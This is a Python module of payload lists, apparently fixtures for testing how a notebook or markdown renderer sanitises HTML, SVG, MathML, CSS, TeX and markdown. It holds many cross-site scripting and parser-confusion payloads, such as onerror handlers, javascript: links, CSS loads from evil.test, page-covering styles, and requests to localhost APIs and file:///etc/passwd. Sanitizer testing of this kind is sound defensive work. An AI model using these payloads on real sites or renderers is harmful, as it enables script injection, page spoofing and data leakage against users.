"""Pieces of texts that try to run, load or cover something: elements, addresses, styles, formulas, and markup that
parsers read in different ways.

Code opens a dialog or sets `window.ran`; addresses lead to `evil.test` or to the reader's own machine.
"""

from __future__ import annotations

# most without an equals sign: markdown takes no unquoted attribute with one for HTML
CODE = [
    "alert(1)",
    "alert()",
    "top.alert(1)",
    "parent.alert()",
    "print()",
    "prompt()",
    "confirm`1`",
    "ran=1",
    "eval('ran=1')",
]
PLACES = [
    "http://evil.test/x",
    "https://evil.test/x.png",
    "//evil.test/x",
    "http://localhost:8888/api/shutdown",
    "http://127.0.0.1:8888/tree?token=1",
    "/formgrader/api/grade",
    "\\\\evil.test\\x",
    "http:evil.test",
    "ftp://evil.test/x",
    "file:///etc/passwd",
    "ws://evil.test/x",
]
EVENTS = (
    "onerror onload onclick onmouseover onfocus ontoggle onanimationstart onanimationend ontransitionend onbegin onend "
    "onpointerenter onwheel onscroll onauxclick onbeforetoggle oncontentvisibilityautostatechange onfocusin onpageshow "
    "oncut oncopy oninput onmousemove onloadstart onplay onresize onsubmit onunload"
).split()
HTML = (
    "a abbr address applet area article aside audio b base basefont bdo bgsound blink blockquote body br button canvas "
    "center code col command content data datalist dd del details dialog dir div dl embed fieldset figure font footer "
    "form frame frameset h1 head header html i iframe image img input ins isindex kbd keygen label legend li link "
    "listing main map mark marquee math menu meta meter nav nobr noembed noframes noscript object ol optgroup option "
    "output p param picture plaintext portal pre progress q rp rt ruby samp script search section select shadow slot "
    "source span strike style sub summary sup svg table tbody td template textarea th title tr track tt u ul var video "
    "wbr xmp xss"
).split()
SVG = (
    "a animate animateMotion animateTransform circle desc feImage filter foreignObject g handler image linearGradient "
    "marker mask metadata path pattern rect script set style switch symbol text textPath title tspan use view"
).split()
MATH = (
    "annotation annotation-xml maction malignmark maligngroup math menclose merror mfrac mglyph mi mlabeledtr mn mo "
    "mpadded mphantom mroot mrow ms mspace msqrt mstyle msub mtable mtd mtext mtr munder none semantics"
).split()
STYLES = [
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff",
    "position:absolute;inset:-9999px;background:red",
    "position:sticky;top:0;height:99vh",
    "margin:-900px;height:3000px;background:white",
    "transform:scale(90);background:black",
    "transform:translateY(-900px)",
    "float:left;margin-top:-500px;height:900px;width:900px;background:#fff",
    "box-shadow:0 0 0 9999px #fff",
    "outline:9999px solid #fff",
    "border-image:url(http://evil.test/b) 9999",
    "background:url(http://evil.test/b)",
    "background:url('//evil.test/b')",
    "background:u\\72l(http://evil.test/b)",
    "background:image-set('http://evil.test/b' 1x)",
    "list-style:url(http://evil.test/l)",
    "cursor:url(http://evil.test/c),auto",
    "content:url(http://evil.test/c)",
    "filter:url(http://evil.test/f#x)",
    "width:expression(alert(1))",
    "behavior:url(http://evil.test/h)",
    "animation:x 1s",
    "font-size:9999px;line-height:0",
    "--a:url(http://evil.test/v);background:var(--a)",
    "text-align:center;position:fixed;inset:0;background:red",
]
CSS = [
    "@import 'http://evil.test/i.css';",
    "@import url(//evil.test/i.css);",
    "*{position:fixed!important;inset:0}",
    "body{display:none}",
    ".panel-heading{visibility:hidden}",
    "@font-face{font-family:x;src:url(http://evil.test/f)}*{font-family:x}",
    "@keyframes x{}*{animation:x 1s}",
    "[id]{background:url(http://evil.test/s)}",
    "</style><img src=x onerror=alert(1)>",
    "x{}<!--</style>",
]
ATTRIBUTES = (
    "src href xlink:href action formaction data poster background srcset lowsrc dynsrc ping manifest cite longdesc "
    "usemap profile codebase archive classid icon imagesrcset from to values by attributeName begin style class id "
    "name is slot part srcdoc http-equiv content target rel type encoding definitionURL actiontype mathbackground "
    "mathcolor mathsize width height depth voffset lspace minsize scriptlevel columnspacing notation xmlns autofocus "
    "tabindex contenteditable popover inert open alt title"
).split()
# markup that parsers and serialisers read in different ways
MIXED = [
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    '<math><annotation-xml encoding="text/html"><style><img src=1 onerror={js}></style></annotation-xml></math>',
    '<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=1 onerror={js}>">',
    "<math><mi><mglyph></mi><svg><style><img src=x onerror={js}></style></svg></math>",
    "<template><style></template><img src=x onerror={js}></style></template>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<textarea></textarea><img src=x onerror={js}></textarea>",
    '<xmp><img title="</xmp><img src=x onerror={js}>"></xmp>',
    '<title><a title="</title><img src=x onerror={js}>">',
    '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>',
    '<iframe><img title="</iframe><img src=x onerror={js}>"></iframe>',
    "<!--><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<!--[if IE]><script>{js}</script><![endif]-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={js}>]]>",
    "<?xml version=1?><img src=x onerror={js}>",
    "<?><img src=x onerror={js}>",
    "<!DOCTYPE x [<!ENTITY e '<img src=x onerror={js}>'>]>&e;",
    "</ <img src=x onerror={js}>",
    "<div<img src=x onerror={js}>>",
    '<img src="x` `<script>{js}</script>"` `>',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<a href="x"onmouseover={js}>y</a>',
    "<img/src/onerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<svg><script>{js}<b>x</b></script></svg>",
    "<svg><script>&#114;an=1</script></svg>",
    '<svg><use href="data:image/svg+xml;base64,{svg}#x"/></svg>',
    "<svg><animate xlink:href=#y attributeName=href values=javascript:{js} /><a id=y><text y=9>z</text></a></svg>",
    "<svg><set attributeName=onmouseover to={js}>",
    '<object data="data:image/svg+xml;base64,{svg}"></object>',
    '<embed src="data:text/html;base64,{page}">',
    '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
    '<iframe src="data:text/html;base64,{page}"></iframe>',
    "<link rel=import href=data:text/html;base64,{page}>",
    '<meta http-equiv=refresh content="0;url=http://evil.test/r">',
    '<meta http-equiv=refresh content="0;url=data:text/html;base64,{page}">',
    "<base href=http://evil.test/><img src=b.png>",
    "<table background=http://evil.test/t><tr><td background=http://evil.test/u>x</table>",
    "<video poster=http://evil.test/p><source src=x onerror={js}></video>",
    "<picture><source srcset=http://evil.test/s><img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=></picture>",
    '<img srcset="http://evil.test/s 2x" src=data:image/gif;base64,R0lGODlhAQABAAAAACw= loading=eager>',
    "<input type=image src=http://evil.test/i onerror={js}>",
    "<button form=f formaction=javascript:{js}>x</button><form id=f action=http://evil.test/f></form>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<div id=document><form name=body><input name=innerHTML></form></div>",
    "<a id=ran></a><a id=ran name=x href=javascript:{js}>x</a>",
    '<math href="javascript:{js}"><mtext>x</mtext></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x<mtext>y</mtext></maction></math>",
    "<math><mtext></mtext><mglyph src=http://evil.test/g></math>",
    "<math><mpadded width=0 height=0 voffset=-999px><mspace mathbackground=red width=9999px height=9999px></mpadded>",
    "<math><mspace width=-9999px><mi mathsize=9999px mathbackground=white>x</mi></math>",
    "<math><mstyle scriptlevel=-40><mi>X</mi></mstyle></math>",
    '<math style="{css}"><mi>x</mi></math>',
    "<img src=data:image/svg+xml;base64,{svg}>",
    '<img src="data:image/png;base64,AAAA" style="{css}">',
    '<img src="data:image/png,%3Csvg onload={js}%3E">',
    "<style>{sheet}</style>",
    '<td style="{css}">x</td>',
    '<div class="navbar-fixed-top modal" style="{css}">cover</div>',
    '<dialog open style="{css}">x</dialog>',
    "<div popover=manual id=p>x</div><button popovertarget=p>y</button>",
    '<marquee onstart={js} style="{css}">x</marquee>',
    "<plaintext><img src=x onerror={js}>",
    "</div></div></body></html><script>{js}</script><body onload={js}>",
    "--></style></script></title></textarea></template><svg onload={js}>",
]
TEX = [
    "\\text{{{x}}}",
    "\\mbox{{{x}}}",
    "\\hbox{{{x}}}\\textbf{{{x}}}",
    "\\operatorname{{{x}}}",
    "\\tag{{{x}}} a",
    "\\verb|{x}|",
    "\\href{{{url}}}{{{x}}}",
    "\\url{{{url}}}",
    "\\style{{{css}}}{{\\text{{{x}}}}}",
    "\\class{{navbar-fixed-top}}{{\\text{{{x}}}}}",
    "\\cssId{{test_double}}{{{x}}}",
    "\\unicode{{x202e}}\\unicode{{x3c}}{x}",
    "\\color{{red;{css}}}{{x}}",
    "\\colorbox{{{css}}}{{{x}}}",
    '\\fcolorbox{{red}}{{"{css}}}{{{x}}}',
    "\\rule{{9999px}}{{9999px}}",
    "\\rule[-5000px]{{9999px}}{{9999px}}",
    "\\hspace{{-9999px}}\\rule{{9999px}}{{400in}}",
    "\\smash{{\\rule{{90in}}{{90in}}}}\\llap{{\\rule{{90in}}{{90in}}}}",
    "\\raise900px{{x}}\\lower900px{{\\mbox{{{x}}}}}",
    "\\begin{{matrix}}{x}&{x}\\\\[9999px]{x}\\end{{matrix}}",
    "\\begin{{array}}{{{x}}}1\\end{{array}}",
    "\\above9999px x",
    "\\genfrac{{<}}{{>}}{{9999px}}{{0}}{{{x}}}{{y}}",
    "\\skew{{9999}}{{x}}{{{x}}}",
    "\\mathchoice{{{x}}}{{a}}{{b}}{{c}}",
    "\\sideset{{{x}}}{{b}}\\sum",
    "\\newcommand{{\\a}}{{{x}}}\\a\\a",
    "\\def\\x{{{x}}}\\x",
    "\\require{{html}}\\htmlStyle{{{css}}}{{x}}",
    "\\left<{x}\\right>",
    "x_{{{x}}}^{{{x}}}",
    "&lt;{x}&gt;",
    "</math>{x}",
    "]]>{x}",
]
MARKDOWN = [
    "[x]({url})",
    '[x](<{url}> "{x}")',
    "[x]({url} '{x}')",
    "![x]({url})",
    '![{x}]({url} "{x}")',
    '![x][r]\n\n[r]: {url} "{x}"',
    "[x][r]\n\n[r]: <{url}>",
    "<{url}>",
    "{url}",
    "![[{x}]({url})]({url})",
    "![x](attachment:{url})",
    "![x](files/{url})",
    "[x](files/{url})",
    '<a href="files/{url}">x</a>',
    "# {x}",
    "- {x}\n  - {x}\n\n    {x}",
    "> {x}\n>> {x}",
    "| {x} | b |\n|:-:|---|\n| {x} | {x} |",
    "```\n{x}\n```",
    "```html\n{x}\n```\n{x}",
    "```mermaid\n{x}\n```",
    "```{x}\ny\n```",
    "~~~\n{x}",
    "`{x}` ``{x}`",
    "    {x}",
    "**{x}** *{x}* ~~{x}~~",
    "{x}\n: {x}",
    "<div>\n\n{x}\n\n</div>",
    '<div markdown=1 style="{css}">{x}</div>',
    "<p>{x}",
    "$ {x} $ {x} $",
    "\\({x}\\) \\[{x}\\]",
    "\\\\({x}\\\\) \\\\[{x}\\\\]",
    "\\begin{{a}}{x}\\end{{a}}",
    "x\\\n{x}",
    "- [x] {x}",
    "[^1]\n\n[^1]: {x}",
    "<!-- {x} -->{x}",
    "{x}",
]
